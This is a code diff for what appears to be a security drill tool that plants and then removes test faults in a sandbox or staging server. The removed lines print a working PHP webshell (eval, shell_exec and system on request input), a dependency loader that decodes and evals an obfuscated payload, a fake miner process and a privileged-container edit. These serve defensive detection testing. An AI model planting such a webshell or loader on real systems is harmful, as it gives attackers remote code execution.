@@ -5,7 +5,7 @@
  * says which checks should catch it and what in their findings points at *this* fault (its
  * marker: the file, the pid), how to remove it, and how to prove nothing is left. Faults act
  * through the site's target, so the same code plants them in the local sandbox and on a
- * staging node over SSH; the scripts are built by small pure functions.
+ * staging node over SSH; the scripts are built by small pure functions (`fault_scripts.ts`).
  *
  * @example
  * ```ts
@@ -17,7 +17,15 @@
  * @module
  */
 import { join } from "node:path";
-import { shellQuote as q } from "../shell/quote.ts";
+import {
+  addPrivileged,
+  MALICIOUS_PACKAGE,
+  minerScript,
+  plantScript,
+  restoreScript,
+  targetPath,
+  WEBSHELL,
+} from "./fault_scripts.ts";
 import type { Target } from "../targets/target.ts";
 import type { FaultSpec } from "./schema.ts";
 
@@ -40,59 +48,6 @@ export interface FaultSite {
 
 /** Fault kinds that need the sandbox: they edit this machine's audit log or the demo app. */
 export const SANDBOX_ONLY: readonly FaultSpec["type"][] = ["audit-log-edit", "failed-release"];
-
-/** A path on the target as one shell word; a leading `~/` stays the target user's home. */
-export function targetPath(path: string): string {
-  return path.startsWith("~/") ? `"$HOME"/${q(path.slice(2))}` : q(path);
-}
-
-/**
- * Plants `text` at `path` (creating missing directories), printing `before=<base64>` when a
- * file was there and `created=<dir>` for each directory it made. Pure.
- *
- * @example
- * ```ts
- * plantScript("/app/current/uploads/x.php", "<?php", 0).includes("base64 -d"); // true
- * ```
- */
-export function plantScript(path: string, text: string, ageDays?: number): string {
-  const file = targetPath(path);
-  const payload = btoa(String.fromCharCode(...new TextEncoder().encode(text)));
-  return `set -e
-f=${file}
-d=$(dirname "$f"); missing=""
-while [ ! -e "$d" ]; do missing="$d $missing"; d=$(dirname "$d"); done
-for m in $missing; do mkdir "$m"; echo "created=$m"; done
-if [ -f "$f" ]; then echo "before=$(base64 -w0 < "$f")"; fi
-printf '%s' ${q(payload)} | base64 -d > "$f"${
-    ageDays
-      ? `
-touch -d ${q(`@${Math.floor((Date.now() - ageDays * 86_400_000) / 1000)}`)} "$f"`
-      : ""
-  }`;
-}
-
-/**
- * Puts a file back as it was (or removes it) and removes the directories the drill made. Pure.
- *
- * @example
- * ```ts
- * restoreScript("/a/x", undefined, ["/a"]).includes("rmdir"); // true
- * ```
- */
-export function restoreScript(path: string, before: string | undefined, created: string[]): string {
-  const file = targetPath(path);
-  const restore = before === undefined
-    ? `rm -f ${file}`
-    : `printf '%s' ${q(before)} | base64 -d > ${file}`;
-  return [restore, ...[...created].reverse().map((dir) => `rmdir ${q(dir)} 2>/dev/null || true`)]
-    .join("\n");
-}
-
-/** Starts a process under argv[0] `name` in its own session; prints its pid. Pure. */
-export function minerScript(name: string): string {
-  return `setsid bash -c ${q(`exec -a ${name} sleep 3600`)} </dev/null >/dev/null 2>&1 & echo $!`;
-}
 
 async function exec(site: FaultSite, script: string): Promise<string> {
   const result = await site.target.exec({ script, timeoutMs: 60_000 });
@@ -129,22 +84,6 @@ export interface InjectedFault {
   /** The planted process (`miner`). */
   pid?: number;
 }
-
-/** A PHP webshell: every construct the malicious-code check knows, as attackers write them. */
-export const WEBSHELL = `<?php
-// drill webshell: injected by \`deno task drill\`, removed at the end of the drill
-if (isset($_POST['c'])) { eval(base64_decode($_POST['c'])); }
-if (isset($_GET['cmd'])) { echo shell_exec($_GET['cmd']); }
-system($_REQUEST['s']);
-`;
-
-/** A dependency's loader that decodes and runs a payload (the event-stream pattern). */
-export const MALICIOUS_PACKAGE = `<?php
-// drill: a malicious dependency, injected by \`deno task drill\`
-namespace Acme\\Logger;
-function boot() { $p = gzinflate(base64_decode('S03OyFdQL0nNTVQozy/KSVFUBwA=')); eval($p); }
-boot();
-`;
 
 const DEFAULT_PATHS: Partial<Record<FaultSpec["type"], string>> = {
   webshell: "uploads/shell.php",
@@ -293,16 +232,6 @@ export async function injectFault(
 
 function decode(base64: string): string {
   return new TextDecoder().decode(Uint8Array.from(atob(base64), (c) => c.charCodeAt(0)));
-}
-
-/** Adds `privileged: true` to the first service of a compose file. */
-export function addPrivileged(compose: string): string {
-  const lines = compose.split("\n");
-  const services = lines.findIndex((l) => /^services:\s*$/.test(l));
-  const first = lines.findIndex((l, i) => i > services && /^ {2}[A-Za-z0-9_.-]+:\s*$/.test(l));
-  if (services < 0 || first < 0) return `${compose.trimEnd()}\n  drill:\n    privileged: true\n`;
-  lines.splice(first + 1, 0, "    privileged: true");
-  return lines.join("\n");
 }
 
 /**
